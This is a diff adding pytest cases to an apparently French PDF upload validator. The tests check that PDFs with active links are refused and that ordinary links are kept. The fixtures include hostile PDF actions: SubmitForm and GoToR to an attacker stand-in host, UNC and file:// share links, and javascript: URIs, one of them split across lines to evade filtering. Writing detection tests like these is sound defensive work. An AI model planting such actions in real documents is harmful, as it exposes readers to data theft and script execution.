@@ -244,6 +244,46 @@ def test_a_pdf_in_which_something_runs_is_refused_and_says_what(root, message):
     assert message in said
 
 
+LEADS_OUT = "Ce PDF contient un lien qui agit : il ouvre un fichier, envoie un formulaire ou lance un programme. "
+
+
+@pytest.mark.parametrize(
+    "acts",
+    [
+        action("/GoToR", F=TextStringObject("\\\\attaquant.example\\partage\\x.pdf")),
+        action("/SubmitForm", F=TextStringObject("https://attaquant.example/")),
+        action("/ImportData", F=TextStringObject("x.fdf")),
+        action("/URI", URI=TextStringObject("javascript:alert(1)")),
+        action("/URI", URI=TextStringObject(" Java\nScript:alert(1)")),
+        action("/URI", URI=TextStringObject("file://attaquant.example/partage/x")),
+        action("/URI", URI=TextStringObject("\\\\attaquant.example\\partage")),
+    ],
+    ids=["GoToR", "SubmitForm", "ImportData", "javascript", "javascript in two lines", "file", "share"],
+)
+def test_a_link_that_acts_is_refused_wherever_it_stands_in_a_pdf(acts):
+    link = dictionary(Subtype=NameObject("/Link"), Rect=ArrayObject(), A=acts)
+    for root in ({"OpenAction": acts}, {"Marked": link}):
+        [said] = refusal_of("dossier.pdf", pdf(**root))
+        assert (
+            said
+            == f"{LEADS_OUT}Enlevez ce lien, ou imprimez le document dans un nouveau PDF, puis envoyez-le.".replace(
+                " :", "\u00a0:"
+            )
+        )
+
+
+def test_a_link_to_a_site_a_mailbox_or_a_page_of_the_pdf_is_kept():
+    for acts in (
+        action("/URI", URI=TextStringObject("https://exemple.fr/?a=javascript:")),
+        action("/URI", URI=TextStringObject("mailto:jeanne@exemple.fr")),
+        action("/URI", URI=TextStringObject("tel:+33381000000")),
+        action("/URI", URI=TextStringObject("www.exemple.fr/page")),
+        action("/GoTo", D=ArrayObject()),
+    ):
+        kept = PdfReader(check_document(sent("dossier.pdf", pdf(OpenAction=acts)))).root_object["/OpenAction"]
+        assert kept == acts
+
+
 def test_javascript_whose_name_is_written_in_codes_is_seen():
     hidden = pdf(OpenAction=action("/JavaScript")).replace(b"/JavaScript", b"/J#61v#61Script")
     assert refusal_of("dossier.pdf", hidden) == [
